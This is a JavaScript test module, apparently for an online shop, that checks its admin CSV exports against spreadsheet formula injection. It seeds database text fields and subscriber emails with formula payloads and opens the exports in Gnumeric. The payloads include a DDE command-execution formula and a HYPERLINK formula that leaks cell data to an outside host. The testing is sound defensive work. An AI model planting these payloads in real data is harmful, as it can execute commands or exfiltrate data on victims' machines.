import { execFile } from 'node:child_process'
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { promisify } from 'node:util'
import { gunzipSync } from 'node:zlib'
import { unpackPrograms } from '../scripts/debian.mjs'
import { aStaffCookie, ask, connect } from './database.mjs'
import { openShop, orderAll, someShoppers } from './shop.mjs'

const mark = '1+1'
const formulas = [
  ...[`=${mark}`, `+${mark}`, `-${mark}`, `@SUM(${mark})`, `\t=${mark}`, `\r=${mark}`, ` =${mark}`],
  ...[`＝${mark}`, `＋${mark}`, `－${mark}`, `＠SUM(${mark})`, `'=${mark}`, `"=${mark}`],
  ...[`=HYPERLINK("https://elsewhere.example/?"&A1,"${mark}")`, `=cmd|'/C calc'!A1+${mark}`],
]

/** Every free text starts like a formula and a spreadsheet program opens each CSV export: no cell is computed. */
export async function openExports({ databaseUrl }) {
  const programs = unpackPrograms('gnumeric')
  const folder = mkdtempSync(path.join(tmpdir(), 'thulir-exports-'))
  const shop = await openShop({ DATABASE_URL: databaseUrl })
  const results = []
  try {
    const written = await writeFormulas(databaseUrl)
    await shop.end('SIGTERM')
    await shop.start()
    const ordering = orderAll(await someShoppers(shop.origin, formulas.length))
    await sleep(3000)
    await ordering.stop()
    const office = await openOffice(shop.origin, databaseUrl)
    for (const { name, route, body } of tables()) {
      const file = path.join(folder, `${name}.csv`)
      writeFileSync(file, await office.takeExport(route, body))
      results.push({ name, ...(await openInSpreadsheet(programs, file)) })
    }
    return {
      passed: results.every(({ formulas, texts }) => formulas === 0 && texts >= 10),
      result: `${formulas.length} beginnings of a formula in ${written} columns; cells with one of them: ${results.map(({ name, texts, formulas }) => `${name} ${texts} texts, ${formulas} formulas`).join('; ')}`,
    }
  } finally {
    await shop.close()
    programs.remove()
    rmSync(folder, { recursive: true, force: true })
  }
}

function tables() {
  const today = new Date(Date.now() + 330 * 60_000).toISOString().slice(0, 10)
  const sold = { from: today, to: today, form: 'csv' }
  return [
    { name: 'products', route: '/api/admin/product-exports' },
    { name: 'subscribers', route: '/api/admin/subscribers/export' },
    { name: 'sales', route: '/api/admin/reports/sales-by-product/export', body: sold },
  ]
}

/** Writes formulas to every free text of products and their options, and to newsletter addresses; returns how many columns accepted one. */
async function writeFormulas(databaseUrl) {
  const client = await connect(databaseUrl)
  const took = new Set()
  const write = (place, text, values) =>
    client.query(text, values).then(
      () => took.add(place),
      () => {}, // A column that rejects such text needs no protection.
    )
  for (const [table, key] of [
    ['product', 'id'],
    ['product_facts', 'product_id'],
    ['product_option', 'id'],
  ]) {
    const { rows: columns } = await client.query(
      `select column_name as name from information_schema.columns where table_name = $1 and data_type = 'text'`,
      [table],
    )
    const { rows } = await client.query(`select ${key} as id from ${table} order by 1`)
    for (const [at, { name }] of columns.entries())
      for (const [nth, { id }] of rows.entries())
        await write(`${table}.${name}`, `update ${table} set ${name} = $1 where ${key} = $2`, [
          formulas[(at + nth) % formulas.length],
          id,
        ])
  }
  for (const formula of formulas)
    await write(
      'subscriber.email',
      `insert into subscriber (id, email, confirmed_at) values (gen_random_uuid(), $1, now())`,
      [`${formula}@example.com`],
    )
  await client.end()
  return took.size
}

async function openOffice(origin, databaseUrl) {
  const headers = { cookie: await aStaffCookie(databaseUrl), origin, 'content-type': 'application/json' }
  const takeExport = async (route, body = {}) => {
    const reply = await fetch(origin + route, { method: 'POST', headers, body: JSON.stringify(body) })
    if (!reply.ok) throw new Error(`${route}: ${reply.status} ${await reply.text()}`)
    const { jobId } = await reply.json()
    for (;;) {
      const [{ state, error }] = await ask(databaseUrl, 'select state, error from job where id = $1', [jobId])
      if (state === 'failed') throw new Error(`${route}: ${error}`)
      if (state === 'done') break
      await sleep(100)
    }
    return Buffer.from(await (await fetch(`${origin}/api/admin/exports/${jobId}`, { headers })).arrayBuffer())
  }
  return { takeExport }
}

/** Gnumeric stores the type of each cell; only a computed cell has no type. */
async function openInSpreadsheet({ folder, find, env }, file) {
  const part = (place) => path.join(folder, place, readdirSync(path.join(folder, place))[0])
  const opened = `${file}.gnumeric`
  await promisify(execFile)(
    find('ssconvert'),
    [
      '-L',
      part('usr/lib/gnumeric'),
      '-D',
      part('usr/share/gnumeric'),
      '-T',
      'Gnumeric_XmlIO:sax',
      file,
      opened,
    ],
    {
      env: { ...env, HOME: path.dirname(file), LD_LIBRARY_PATH: `${folder}/usr/lib:${env.LD_LIBRARY_PATH}` },
      maxBuffer: 2 ** 26,
      timeout: 60_000,
    },
  )
  const text = readFileSync(opened)
  const xml = (text[0] === 0x1f ? gunzipSync(text) : text).toString('utf8')
  const cells = [...xml.matchAll(/<gnm:Cell ([^>]*)>([^<]*)<\/gnm:Cell>/g)]
  return {
    formulas: cells.filter(([, attributes]) => !attributes.includes('ValueType=')).length,
    texts: cells.filter(
      ([, attributes, value]) => attributes.includes('ValueType="60"') && value.includes(mark),
    ).length,
  }
}
